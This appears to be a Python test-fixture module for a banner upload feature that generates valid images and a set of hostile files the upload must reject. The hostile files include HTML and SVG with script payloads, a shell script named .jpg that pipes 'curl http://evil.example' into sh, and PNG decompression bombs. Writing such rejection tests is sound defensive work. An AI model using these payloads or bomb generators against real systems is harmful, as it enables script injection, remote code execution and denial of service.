"""Pictures for the banner upload: good ones of each accepted kind, and hostile files it must refuse (used by
tests/services/test_banners.py, tests/blueprints/test_banner_pages.py and bench/hostile_uploads.py)."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image, ImageDraw

SCRIPT = b"<script>alert(document.cookie)</script>"


def picture(kind: str = "PNG", size: tuple[int, int] = (1600, 900), mode: str = "RGB", colour="#b22222", **save) -> bytes:
    """A picture with some detail (a banded background and a stripe), written by Pillow as `kind`."""
    image = Image.new(mode, size, colour)
    draw = ImageDraw.Draw(image)
    for x in range(0, size[0], 40):
        draw.rectangle([x, 0, x + 19, size[1] // 3], fill="#ffd700" if mode != "L" else 200)
    draw.rectangle([0, size[1] - 40, size[0], size[1]], fill="#003366" if mode != "L" else 50)
    out = io.BytesIO()
    image.save(out, kind, **save)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int, rows: int | None = None) -> bytes:
    """A greyscale PNG whose header declares `width` × `height`; its data holds `rows` rows of zeros (all of them
    when None: a real decompression bomb, a few kB that decode to width × height bytes)."""
    rows = height if rows is None else rows
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte + a row of black pixels
    data = b"".join(compressor.compress(row) for _ in range(rows)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def animated(kind: str) -> bytes:
    frames = [Image.new("RGB", (800, 400), colour) for colour in ("red", "blue", "green")]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:], duration=200, loop=0)
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG carrying `comment` in a COM segment (a JPEG/HTML polyglot when it is markup)."""
    return picture("JPEG", comment=comment)


def rotated_photo() -> bytes:
    """A 700 × 1400 JPEG whose EXIF says to turn it a quarter (Orientation 6: shown 1400 × 700), with a GPS position
    and a camera name that must not survive."""
    image = Image.open(io.BytesIO(picture("JPEG", size=(700, 1400))))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to show
    exif[0x010F] = "SecretCam"  # Make
    exif[0x8825] = {2: (21.0, 1.0, 30.0)}  # GPSInfo: latitude
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    return out.getvalue()


# name -> (file name the organiser gives it, its bytes): each must be refused with a message, nothing stored.
HOSTILE = {
    "HTML named .png": ("anh-bia.png", b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"),
    "SVG with a script": ("anh-bia.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1200" height="630"/></svg>'),
    "shell script named .jpg": ("anh-bia.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    "GIF": ("anh-bia.gif", picture("GIF")),
    "animated GIF named .png": ("anh-bia.png", animated("GIF")),
    "animated PNG": ("anh-bia.png", animated("PNG")),
    "animated WebP": ("anh-bia.webp", animated("WEBP")),
    "empty file": ("anh-bia.png", b""),
    "truncated JPEG": ("anh-bia.jpg", picture("JPEG")[:5000]),
    "truncated PNG": ("anh-bia.png", picture("PNG")[:5000]),
    "PNG signature then junk": ("anh-bia.png", b"\x89PNG\r\n\x1a\n" + b"\x00junk" * 100),
    # Pillow's own guard: past twice its 89-megapixel limit an error, past it a warning
    "decompression bomb PNG (400 megapixels)": ("bom.png", png_declaring(20_000, 20_000, rows=100)),
    "decompression bomb PNG (100 megapixels)": ("bom.png", png_declaring(10_000, 10_000, rows=100)),
    # under Pillow's limit and a real bomb (a few kB, 30 million pixels decoded): ours refuses it before decoding
    "decompression bomb PNG (30 megapixels)": ("bom.png", png_declaring(6_000, 5_000)),
    "too small": ("anh-bia.png", picture("PNG", size=(300, 150))),
    "too narrow a strip": ("anh-bia.png", picture("PNG", size=(4000, 500))),
    "portrait": ("anh-bia.jpg", picture("JPEG", size=(900, 1600))),
    "over 5 MB": ("anh-bia.png", picture("PNG") + b"\x00" * (5 * 1024 * 1024)),
}
